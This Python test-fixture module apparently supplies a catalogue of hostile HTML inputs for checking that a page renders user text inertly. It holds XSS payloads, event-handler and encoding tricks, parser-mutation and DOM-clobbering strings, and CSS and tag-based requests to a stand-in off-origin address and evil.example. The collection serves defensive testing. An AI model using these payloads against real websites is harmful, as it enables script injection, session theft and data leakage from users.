"""Raw HTML that wants to run, to fetch or to leave; what a page that shows text must show as text."""

import base64

FETCH = "http://127.0.0.2:9/x"
"""An address off the origin; whoever asks for it was tricked."""

CODE = "pwned=1,alert(1)"
SCRIPT = f"<script>{CODE}</script>"
IMG = f"<img src=x onerror={CODE}>"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{CODE}'/>"

HANDLERS = [
    f"<{tag} {event}={CODE}>"
    for event, tags in {
        "onload": ("svg", "body", "iframe srcdoc=x", "style", "link rel=stylesheet href=x", "input type=image src=x"),
        "onerror": (
            "img src=x",
            "audio src=x",
            "video src=x",
            "object data=x",
            "script src=x",
            "image src=x",
            "link href=x",
        ),
        "onfocus": ("input autofocus", "a href=# tabindex=1 id=x", "div contenteditable autofocus", "select autofocus"),
        "ontoggle": ("details open", "div popover id=x"),
        "onbegin": ("svg><animate attributeName=x dur=1s", "svg><set attributeName=x"),
        "onanimationstart": ('p style="animation:breathe 1s"',),
        "ontransitionend": ('p style="transition:1s" tabindex=1',),
        "onscroll": ('div style="overflow:scroll"', "body"),
        "onpointerenter": ("xss", "mark", "custom-element"),
        "onmouseover": ("p", "td", "math"),
        "onstart": ("marquee",),
        "onloadstart": ("video src=x", "audio src=x autoplay"),
        "onhashchange": ("body",),
        "onpageshow": ("body",),
        "onunhandledrejection": ("body",),
        "onsecuritypolicyviolation": ("div",),
        "onbeforetoggle": ("button popovertarget=x>x</button><div popover id=x",),
        "oncontentvisibilityautostatechange": ('div style="content-visibility:auto"',),
        "onformdata": ("form id=f><button form=f>x</button></form><form",),
    }.items()
    for tag in tags
]

SPELLINGS = [
    SCRIPT,
    f"<ScRiPt src={FETCH}></ScRiPt>",
    f"<scr<script>ipt>{CODE}</scr</script>ipt>",
    f"<script\n>{CODE}</script\n>",
    f"<script/x>{CODE}</script/x>",
    f"<script>{CODE}",
    f"<<script>{CODE}//<</script>",
    f"<\u0000script>{CODE}</\u0000script>",
    f"<script type=module>import '{FETCH}'</script>",
    f'<script type=importmap>{{"imports":{{"x":"{FETCH}"}}}}</script>',
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{FETCH}"]}}]}}</script>',
    "\uff1cscript\uff1epwned=1\uff1c/script\uff1e",
    "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
    f"%3Cscript%3E{CODE}%3C/script%3E",
    f"\\u003cscript\\u003e{CODE}\\u003c/script\\u003e \\x3cscript\\x3e{CODE}\\x3c/script\\x3e",
    f"&lt;script&gt;{CODE}&lt;/script&gt; &#60;img src=x onerror={CODE}&#62; &#x3c;img src=x onerror={CODE}&#x3e;",
    f"&amp;lt;img src=x onerror={CODE}&amp;gt; &LT;img src=x onerror={CODE}&GT &#0000060img src onerror={CODE}>",
    f"<img/src/onerror={CODE}>",
    f"<img\tsrc=x\fonerror\r\n=\n{CODE}>",
    f'<img src="x` `<script>{CODE}</script>"` `>',
    f"<img src=x onerror\u0000={CODE}>",
    f"<img src=x onerror=\u0001{CODE}>",
    f"\u2028<img src=x onerror={CODE}>\u2029",
    f"<img '' src=x \"\" onerror={CODE}",
    f"<img src=x:{CODE} onerror=eval(src)>",
    f"<IMG SRC=&#106;&#97;&#118;&#97;script:{CODE}>",
    f"<a/href=javascript&colon;{CODE}>x</a>",
    f'<a href="javascript:{CODE}" target=_self>a link</a>',
    f'<a href="{FETCH}" ping="{FETCH}" download>ping</a>',
    f'<map name=m><area shape=default href="javascript:{CODE}"></map><img usemap=#m src=x>',
    f'<form action="{FETCH}"><button formaction="javascript:{CODE}">Copy</button></form>',
    f'<form id=f action="{FETCH}" method=post><input name=text></form><button form=f>Send</button>',
    f"<isindex type=image src=1 onerror={CODE}><keygen autofocus onfocus={CODE}>",
]

FETCHING = [
    f"<img src='{FETCH}'>",
    f'<img srcset="{FETCH} 1x" src="{FETCH}">',
    f'<picture><source srcset="{FETCH}"><img></picture>',
    f'<input type=image src="{FETCH}">',
    f'<video poster="{FETCH}" src="{FETCH}" autoplay></video>',
    f'<video><source src="{FETCH}"><track default kind=captions src="{FETCH}"></video>',
    f'<audio src="{FETCH}" autoplay>',
    f'<iframe src="{FETCH}"></iframe>',
    f'<iframe srcdoc="<script>parent.{CODE}</script>"></iframe>',
    f'<iframe srcdoc="&lt;img src=x onerror=parent.{CODE}&gt;"></iframe>',
    f'<iframe src="javascript:parent.{CODE}"></iframe>',
    f'<iframe src="data:text/html,<script>parent.{CODE}</script>"></iframe>',
    '<iframe src="/" name=top></iframe>',
    f'<frameset onload="{CODE}"><frame src="{FETCH}"></frameset>',
    f'<object data="{FETCH}"></object>',
    f'<object data="data:text/html;base64,{base64.b64encode(SCRIPT.encode()).decode()}"></object>',
    f'<embed src="{FETCH}">',
    f'<embed code="{FETCH}" type=application/x-shockwave-flash allowscriptaccess=always>',
    f'<applet code="{FETCH}"></applet>',
    f'<portal src="{FETCH}"></portal><fencedframe src="{FETCH}"></fencedframe>',
    f'<link rel=stylesheet href="{FETCH}">',
    f'<link rel=prefetch href="{FETCH}"><link rel=dns-prefetch href="//evil.example">',
    f'<link rel=preconnect href="{FETCH}"><link rel=modulepreload href="{FETCH}">',
    f'<link rel=icon href="{FETCH}"><link rel=manifest href="{FETCH}">',
    f'<link rel=import href="{FETCH}">',
    f'<meta http-equiv=refresh content="0;url={FETCH}">',
    f'<meta http-equiv=refresh content="0;url=javascript:{CODE}">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<meta http-equiv=Set-Cookie content=session=mine><meta name=referrer content=unsafe-url>",
    "<meta charset=utf-7>",
    f'<base href="{FETCH}"><base target=_top>',
    f'<body background="{FETCH}"><table background="{FETCH}"><td background="{FETCH}">',
    f'<html manifest="{FETCH}">',
    f'<?xml-stylesheet href="{FETCH}"?><!DOCTYPE x [<!ENTITY y SYSTEM "{FETCH}">]>',
    f'<!--#include virtual="{FETCH}"--><!--[if gte IE 4]>{SCRIPT}<![endif]-->',
]

STYLES = [
    f"<style>{rule}</style>"
    for rule in (
        f"@import '{FETCH}';",
        f"@import url({FETCH}) layer(x);",
        f"* {{ background: url({FETCH}) !important }}",
        f"input[value^=a] {{ background: url({FETCH}) }}",
        f"@font-face {{ font-family: x; src: url({FETCH}) }} * {{ font-family: x }}",
        f"li {{ list-style: url({FETCH}) }} p {{ cursor: url({FETCH}), auto; content: url({FETCH}) }}",
        f"* {{ -moz-binding: url({FETCH}); behavior: url({FETCH}) }}",
        f"p {{ width: expression({CODE}); background: image-set(url({FETCH}) 1x) }}",
        f"@property --x {{ syntax: '<url>'; inherits: false; initial-value: url({FETCH}) }}",
        "body { display: none } .composer { position: fixed; inset: 0 }",
        f"</style>{IMG}<style>",
    )
] + [
    f'<p style="{rule}">styled</p>'
    for rule in (
        f"background:url({FETCH})",
        f"background:u\\72l({FETCH})",
        f"background:url(&quot;{FETCH}&quot;)",
        f"--x:url({FETCH});border-image:var(--x)",
        f"mask:url({FETCH}#m);filter:url({FETCH}#f);clip-path:url({FETCH}#c)",
        "position:fixed;inset:0;z-index:2147483647;background:white",
        f"background:url(javascript:{CODE})",
    )
]

FOREIGN = [
    f"<svg><script>{CODE}</script></svg>",
    f"<svg><script href={FETCH} /></svg>",
    f"<svg><script xlink:href=data:,{CODE} /></svg>",
    f'<svg><use href="{FETCH}#x"/></svg>',
    f'<svg><use href="data:image/svg+xml,{SVG}#x"/></svg>',
    f'<svg><image href="{FETCH}"/><feImage href="{FETCH}"/></svg>',
    f'<svg><a xlink:href="javascript:{CODE}"><text x=20 y=20>click</text></a></svg>',
    f'<svg><a><animate attributeName=href values="javascript:{CODE}"/><text x=20 y=20>click</text></a></svg>',
    f'<svg><foreignObject><iframe srcdoc="{IMG}"></iframe></foreignObject></svg>',
    f"<svg><style>@import '{FETCH}'</style></svg>",
    f"<svg><style>&lt;/style&gt;{IMG}</style></svg>",
    f'<svg></p><style><a id="</style>{IMG}"></svg>',
    f"<svg><desc><![CDATA[</desc>{SCRIPT}]]></svg>",
    f'<svg><title><style><img title="</style>{IMG}"></title></svg>',
    f"<svg><handler type=text/javascript ev:event=load>{CODE}</handler></svg>",
    f'<math href="javascript:{CODE}">click</math>',
    f'<math><maction actiontype="statusline#x" xlink:href="javascript:{CODE}">click</maction></math>',
    f'<math><mtext><mglyph><style><img src onerror="{CODE}"></style>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{IMG}">',
    f"<math><mi><table><mi><style><![CDATA[</style>{IMG}]]>",
    f'<math><annotation-xml encoding="text/html"><style><img src=x onerror={CODE}></style></annotation-xml></math>',
    f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
]

MUTATIONS = [
    f"<!--><img src=x onerror={CODE}>-->",
    f"<!--!><img src=x onerror={CODE}>--!>",
    f"<! -- ><img src=x onerror={CODE}><!-- -->",
    f"<![CDATA[<img src=x onerror={CODE}>]]>",
    f"<? ><img src=x onerror={CODE}>",
    f"</ ><img src=x onerror={CODE}>",
    f"<template>{SCRIPT}</template>",
    f"<div><template shadowrootmode=open>{SCRIPT}<style>:host{{display:none}}</style></template></div>",
    f"</p></article></div>{SCRIPT}",
    f"</textarea></title></style></script>{IMG}",
    f'<noscript><p title="</noscript><img src=x onerror={CODE}>">',
    f'<title><a href="</title><img src=x onerror={CODE}>">',
    f'<xmp><p title="</xmp><img src=x onerror={CODE}>">',
    f'<noembed><p title="</noembed><img src=x onerror={CODE}>">',
    f'<iframe><p title="</iframe><img src=x onerror={CODE}>">',
    f'<textarea><p title="</textarea><img src=x onerror={CODE}>">',
    f'<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={CODE}>">',
    f"<plaintext><img src=x onerror={CODE}>",
    f"<listing>&lt;img src=x onerror={CODE}&gt;</listing>",
    f"<table><tr><td><form><table></form><img src=x onerror={CODE}>",
    f"<a><p></a><b><table><i></b><img src=x onerror={CODE}>",
    f"<p id='</p>{IMG}'>",
    f'<img alt="<x\' title="/><img src=x onerror={CODE}>">',
    f"<dialog open><button autofocus onfocus={CODE}>x</button></dialog>",
    f"<slot name=x onslotchange={CODE}></slot><div slot=x></div>",
    f"<input type=hidden oncontentvisibilityautostatechange={CODE} style=content-visibility:auto>",
]

CLOBBERING = [
    "<div id=app></div><a id=message name=message></a>",
    "<a id=defaultView><a id=defaultView name=document href=data:,1>",
    "<form name=body><input name=childNodes></form><img name=getElementById>",
    "<form id=attributes><input name=attributes><input name=removeChild></form>",
    "<img name=currentScript><img name=querySelector><a name=location href=javascript:1>",
    "<iframe name=self></iframe><iframe name=fetch></iframe><object id=trustedTypes></object>",
    "<base id=baseURI><embed name=cookie><a id=__proto__>",
    "<div data-copy data-diagram data-to=1 data-back=1 data-note=1 class='code formula footnotes'>x</div>",
    "<svelte:window on:click={alert}/> <svelte-css-wrapper style=display:contents>",
]
HTML = [*HANDLERS, *SPELLINGS, *FETCHING, *STYLES, *FOREIGN, *MUTATIONS, *CLOBBERING]
